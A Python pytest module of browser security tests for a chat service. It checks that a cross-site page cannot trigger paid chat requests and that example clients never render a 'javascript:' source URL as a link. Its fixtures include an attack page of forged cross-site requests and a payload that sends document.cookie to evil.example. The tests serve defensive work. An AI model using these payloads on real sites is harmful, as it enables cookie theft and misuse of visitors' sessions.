"""What another web page can make a visitor's browser do, tried in Debian's Chromium.

- Spend: a page on another site embeds the chat URL as an `<img>`, an `<iframe>` and a `no-cors` fetch.
  None of them sends `Origin`, so the CORS allowlist never sees them; the fetch-metadata policy
  (`Sec-Fetch-Site`) must refuse all three before any work: the fake Claude gets zero requests.
- Links: a sources event whose `url` is `javascript:...` (as a server before the http(s)-only rule sent it)
  must not become a clickable link in any example client.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from tests.browser import StaticServer, open_page
from tests.fakes.control import FakeAnthropic
from tests.harness import ServerProcess
from tests.sse import CHAT
from tests.test_browser_clients import DONE, site  # noqa: F401 - the built examples, a module fixture

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ATTACK = """<!doctype html><meta charset="utf-8"><title>cute cats</title>
<img id="img" src="{api}{chat}?query=img+What+is+a+KITAS">
<iframe id="frame" src="{api}{chat}?query=iframe+What+is+a+KITAS"></iframe>
<script>
fetch("{api}{chat}?query=fetch+What+is+a+KITAS", {{mode: "no-cors"}})
  .then((r) => r.text()).catch(() => null).finally(() => {{ window.__fetched = true; }});
</script>
"""
EVIL = "javascript:fetch('https://evil.example/?c='+document.cookie)"


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    with open_page(browser) as page:
        page.set_default_timeout(30_000)
        yield page


@pytest.fixture(scope="module")
def attack_site(
    tmp_path_factory: pytest.TempPathFactory, mini_claude_server: ServerProcess
) -> Iterator[StaticServer]:
    root = tmp_path_factory.mktemp("attack")
    (root / "cats.html").write_text(ATTACK.format(api=mini_claude_server.url, chat=CHAT))
    with StaticServer(root) as server:
        yield server


def chat_lines(server: ServerProcess, since: int) -> list[dict[str, Any]]:
    """The server's `request` log lines for the chat path, after byte `since` of its log."""
    lines = [json.loads(line) for line in server.logs()[since:].splitlines() if line.startswith("{")]
    return [line for line in lines if line.get("msg") == "request" and line.get("path") == CHAT]


def pump_until(page: Any, condition: Any, timeout_ms: int = 30_000) -> None:
    """Wait while Playwright delivers its events (a plain sleep would hold them back)."""
    for _ in range(timeout_ms // 50):
        if condition():
            return
        page.wait_for_timeout(50)
    raise AssertionError("the requests were not all answered in time")


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"], ids=["cross-site", "same-site"])
def test_a_page_on_another_site_cannot_spend_through_its_visitors(
    page: Any, attack_site: StaticServer, mini_claude_server: ServerProcess, claude: FakeAnthropic, host: str
) -> None:
    mark = len(mini_claude_server.logs())
    # The API is at 127.0.0.1:<port>: `localhost` is another site, 127.0.0.1 on another port the same site.
    page.goto(f"http://{host}:{attack_site.port}/cats.html")
    page.wait_for_function("window.__fetched === true")
    # A request's line is logged when its response has ended (refused at once, or the answer streamed).
    pump_until(page, lambda: len(chat_lines(mini_claude_server, mark)) >= 3)
    assert [line["status"] for line in chat_lines(mini_claude_server, mark)] == [403] * 3
    assert claude.requests() == [], "a request from another site reached Claude"


def test_the_service_own_page_and_a_typed_url_are_still_served(
    page: Any, mini_claude_server: ServerProcess, claude: FakeAnthropic
) -> None:
    mark = len(mini_claude_server.logs())
    # A URL typed into the address bar (`Sec-Fetch-Site: none`) and the service's own page (`same-origin`).
    page.goto(mini_claude_server.url + CHAT + "?" + urlencode({"query": "What is a KITAS?"}))
    page.goto(mini_claude_server.url + "/sse-test")
    page.evaluate(f"fetch('{CHAT}?query=KITAS', {{mode: 'no-cors'}}).then((r) => r.text())")
    pump_until(page, lambda: len(chat_lines(mini_claude_server, mark)) >= 2)
    assert [line["status"] for line in chat_lines(mini_claude_server, mark)] == [200, 200]
    assert len(claude.requests()) == 2


# --- links


def recorded_stream(url: str) -> str:
    """A chat stream in the server's own wire format whose one source links to `url`."""
    events = [
        {"text": "A KITAS is a limited stay permit [1].", "sequenceNumber": 1, "timestamp": 1730552400.1},
        {
            "sources": [
                {"source": "Evil", "snippet": "Click me", "similarity": 0.9, "url": url, "id": "kb/evil.md"},
                {
                    "source": "Good",
                    "snippet": "Read me",
                    "similarity": 0.8,
                    "url": "https://balizero.com/kb",
                    "id": "kb/ok.md",
                },
            ]
        },
        {
            "done": True,
            "sequenceNumber": 1,
            "timestamp": 1730552400.2,
            "streamDuration": 0.1,
            "model": "extractive",
            "degraded": False,
        },
    ]
    stream = "local-" + "ab" * 16
    return "".join(
        f"data: {json.dumps(e, separators=(',', ':'))}\nid: {stream}:{n}\n\n" for n, e in enumerate(events, 1)
    )


@pytest.fixture(scope="module")
def recorded_site(site: Path) -> Iterator[StaticServer]:  # noqa: F811 - the imported fixture
    playback = site / "bali-zero"  # the clients ask `<backend>/bali-zero/chat-stream`
    playback.mkdir(parents=True, exist_ok=True)
    (playback / "chat-stream").write_text(recorded_stream(EVIL))
    with StaticServer(site) as server:
        yield server


@pytest.mark.parametrize(
    "demo", ["react/index.html", "vue/index.html", "vanilla/index.html", "SSE_TEST.html"]
)
def test_examples_render_only_http_links(page: Any, recorded_site: StaticServer, demo: str) -> None:
    backend = recorded_site.origin
    if demo == "SSE_TEST.html":
        page.goto(recorded_site.url(demo))
        page.fill("#backend-url", backend)
        page.fill("#query", "KITAS?")
        page.click("#ask")
    else:
        page.goto(recorded_site.url(demo) + "?" + urlencode({"backend": backend, "q": "KITAS?"}))
    page.wait_for_function(DONE)
    hrefs = page.eval_on_selector_all(
        "#sources a", "(links) => links.map((a) => a.getAttribute('href')).filter((h) => h !== null)"
    )
    assert "https://balizero.com/kb" in hrefs, hrefs
    assert not [h for h in hrefs if not h.startswith(("https:", "http:", "#"))], hrefs
    assert "Evil" in page.inner_text("#sources"), "the source itself is still listed, as text"
